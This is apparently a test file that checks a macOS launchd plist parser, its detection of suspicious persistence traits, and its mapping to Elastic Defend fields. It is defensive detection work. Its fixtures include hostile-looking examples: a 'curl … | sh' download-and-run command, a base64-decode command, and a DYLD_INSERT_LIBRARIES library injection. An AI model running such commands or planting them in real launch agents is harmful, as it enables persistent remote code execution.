@@ -1,0 +1,134 @@
+import { describe, expect, test } from 'vitest';
+import { findingMeanings, launchItem, type PlistValue, persistenceOf } from '../../../src/enrich/index.js';
+
+function item(fields: Record<string, PlistValue>) {
+  const result = launchItem(
+    new Map(Object.entries({ Label: 'com.example', Program: '/usr/bin/true', ...fields })),
+  );
+  if (result === undefined) throw new Error('not a launch item');
+  return result;
+}
+
+test('what launchd reads', () => {
+  const { fields, findings } = item({
+    ProgramArguments: ['true', '-x'],
+    RunAtLoad: true,
+    KeepAlive: false,
+    Disabled: false,
+    UserName: 'root',
+    WatchPaths: ['/private/tmp'],
+    StartInterval: 60,
+  });
+  expect(fields).toMatchObject({
+    label: 'com.example',
+    program: '/usr/bin/true',
+    program_arguments: ['true', '-x'],
+    run_at_load: true,
+    keep_alive: false,
+    disabled: false,
+    user_name: 'root',
+    triggers: ['StartInterval', 'WatchPaths'],
+  });
+  expect(JSON.parse(fields.json ?? '')).toMatchObject({ Label: 'com.example', StartInterval: 60 });
+  expect(findings).toEqual([]);
+});
+
+test.each<[string, Record<string, PlistValue>, boolean | undefined]>([
+  ['a dictionary of conditions', { KeepAlive: new Map([['SuccessfulExit', false]]) }, true],
+  ['a number', { KeepAlive: 1 }, true],
+  ['the older word', { OnDemand: false }, true],
+  ['both words: the newer one counts', { OnDemand: false, KeepAlive: false }, false],
+  ['a text', { KeepAlive: 'yes' }, undefined],
+])('kept alive by %s', (_, given, expected) => {
+  expect(item(given).fields.keep_alive).toBe(expected);
+});
+
+test('wrong types are left out', () => {
+  const { fields } = item({ Program: 7, ProgramArguments: 'sh', RunAtLoad: 'yes', UserName: ['root'] });
+  expect(Object.keys(fields).sort()).toEqual(['json', 'label']);
+});
+
+test('a list of other things than texts', () => {
+  expect(
+    item({ ProgramArguments: ['a', 1, true, new Map(), ['b'], 2n ** 60n] }).fields.program_arguments,
+  ).toEqual(['a', '1', 'true', String(2n ** 60n)]);
+});
+
+test('what is no dictionary is no launch item', () => {
+  for (const value of ['x', 1, null, ['Label'], new Uint8Array(1)]) expect(launchItem(value)).toBeUndefined();
+});
+
+test('texts and lists are bounded', () => {
+  const { fields } = item({
+    Label: 'x'.repeat(1e6),
+    ProgramArguments: Array<PlistValue>(1e5).fill('y'.repeat(100)),
+  });
+  expect(JSON.stringify(fields).length).toBeLessThan(80_000);
+});
+
+describe('findings', () => {
+  test.each<[string, Record<string, PlistValue>, string[]]>([
+    [
+      'an ordinary updater',
+      { ProgramArguments: ['/Applications/X.app/Contents/MacOS/updater', '--check'] },
+      [],
+    ],
+    [
+      'a shell script that is a file',
+      { Program: '/bin/sh', ProgramArguments: ['sh', '/usr/local/bin/x.sh', '-c'] },
+      [],
+    ],
+    ['no label', { Label: '' }, ['no-label']],
+    ['no program', { Program: '' }, ['no-program']],
+    ['a program in /tmp', { Program: '/tmp/x' }, ['program-in-tmp']],
+    ['in /private/var/folders', { Program: '/private/var/folders/ab/x' }, ['program-in-tmp']],
+    ['in the shared folder', { Program: '/Users/Shared/x' }, ['program-in-tmp']],
+    ['a hidden program', { Program: '/Users/a/.x/y' }, ['hidden-program']],
+    ['a path with dots that hide nothing', { Program: '/Users/a/../b/./c.d' }, []],
+    ['sh -c', { Program: '/bin/sh', ProgramArguments: ['sh', '-lc', 'true'] }, ['interpreter-one-liner']],
+    [
+      'python -c',
+      { Program: '/usr/bin/python3.12', ProgramArguments: ['p', '-c', ''] },
+      ['interpreter-one-liner'],
+    ],
+    [
+      'osascript -e',
+      { Program: '/usr/bin/osascript', ProgramArguments: ['o', '-e', ''] },
+      ['interpreter-one-liner'],
+    ],
+    [
+      'a download',
+      { Program: '/bin/bash', ProgramArguments: ['bash', '-c', 'curl -s 198.51.100.7 | sh'] },
+      ['interpreter-one-liner', 'network-download'],
+    ],
+    ['something decoded', { ProgramArguments: ['x', 'echo eA== | base64 --decode'] }, ['encoded-command']],
+    [
+      'a library put into the program',
+      { EnvironmentVariables: new Map([['DYLD_INSERT_LIBRARIES', '/x.dylib']]) },
+      ['dyld-environment'],
+    ],
+  ])('%s', (_, given, expected) => {
+    expect(item(given).findings).toEqual(expected);
+    for (const finding of expected) expect(findingMeanings[finding]).toMatch(/\.$/);
+  });
+});
+
+describe("Elastic Defend's fields", () => {
+  test('arguments, or the program in their place', () => {
+    expect(
+      persistenceOf('/Library/LaunchAgents/x.plist', { program_arguments: ['a', 'b'], program: 'c' }),
+    ).toEqual({
+      name: 'x.plist',
+      path: '/Library/LaunchAgents/x.plist',
+      args: ['a', 'b'],
+      runatload: false,
+      keepalive: false,
+    });
+    expect(persistenceOf('/x', { program: 'c', run_at_load: true, keep_alive: true })).toMatchObject({
+      args: ['c'],
+      runatload: true,
+      keepalive: true,
+    });
+    expect(persistenceOf('/x', {}).args).toBeUndefined();
+  });
+});
